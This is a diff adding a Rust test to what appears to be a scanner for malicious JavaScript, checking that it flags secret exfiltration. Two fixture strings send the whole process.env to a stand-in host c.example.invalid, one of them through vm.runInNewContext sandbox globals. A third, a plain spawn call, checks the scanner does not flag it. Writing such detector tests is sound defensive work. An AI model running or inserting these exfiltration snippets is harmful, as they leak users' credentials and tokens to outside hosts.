@@ -661,3 +661,33 @@ fn string_array_rotation_and_commands_in_char_codes() {
         facts(letters)
     );
 }
+
+#[test]
+fn secrets_inside_an_object_and_vm_sandbox_globals() {
+    // The environment as one property of the body.
+    let src = "const http = require('http');\nconst r = http.request({ host: 'c.example.invalid', method: 'POST' });\nr.end(JSON.stringify({ env: process.env, cwd: process.cwd() }));\n";
+    assert!(
+        kinds(src).contains(&K::SecretExfiltration),
+        "{:?}",
+        facts(src)
+    );
+    // Constant code run in a sandbox whose globals are the environment and https.
+    let vm = r#"const vm = require('vm');
+const code = ['var b = JSON.stringify(env);', 'var q = https.request({ host: "c.example.invalid", method: "POST" });', 'q.end(b);'].join('\n');
+vm.runInNewContext(code, { env: process.env, https: require('https'), JSON });
+"#;
+    assert!(
+        facts(vm)
+            .iter()
+            .any(|x| x.0 == K::SecretExfiltration && x.2.contains("vm.runInNewContext")),
+        "{:?}",
+        facts(vm)
+    );
+    // Spawning with the environment passes it to a child, it sends nothing.
+    let spawn = "const { spawn } = require('child_process');\nspawn('node', ['build.js'], { env: process.env, stdio: 'inherit' });\n";
+    assert!(
+        !kinds(spawn).contains(&K::SecretExfiltration),
+        "{:?}",
+        facts(spawn)
+    );
+}
